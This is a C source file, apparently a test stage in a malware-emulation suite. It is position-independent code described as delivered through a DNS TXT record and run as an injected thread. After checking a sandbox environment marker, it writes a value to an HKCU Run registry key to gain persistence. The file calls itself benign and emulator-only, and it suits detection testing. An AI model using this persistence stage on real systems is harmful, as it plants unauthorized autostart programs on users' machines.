/*
 * persist.c - combo-apc-dns-x86: the stage the DNS TXT record carries (benign, emulator-only).
 * Position independent, one function, no data; its context block is its thread's parameter.
 * Checks the sandbox marker and writes ctx->run_value as the value ctx->run_name of
 * HKCU\ctx->run_key (a Run key: persistence). Returns 0 ok, 1 no marker, 2 registry.
 */
#include "remote.h"

DWORD WINAPI sc_main(struct remote_ctx *c)
{
    char buf[16];
    DWORD n, i;
    HKEY key;
    n = c->pGetEnvironmentVariableA(c->marker_name, buf, sizeof(buf));
    for (i = 0; i < n && c->marker_value[i] && buf[i] == c->marker_value[i]; i++)
        ;
    if (n == 0 || i != n || c->marker_value[i])
        return 1;
    if (c->pRegCreateKeyExA(HKEY_CURRENT_USER, c->run_key, 0, 0, 0, KEY_SET_VALUE, 0, &key, 0) != ERROR_SUCCESS)
        return 2;
    for (n = 0; c->run_value[n]; n++)
        ;
    c->pRegSetValueExA(key, c->run_name, 0, REG_SZ, (const BYTE *)c->run_value, n + 1);
    c->pRegCloseKey(key);
    return 0;
}
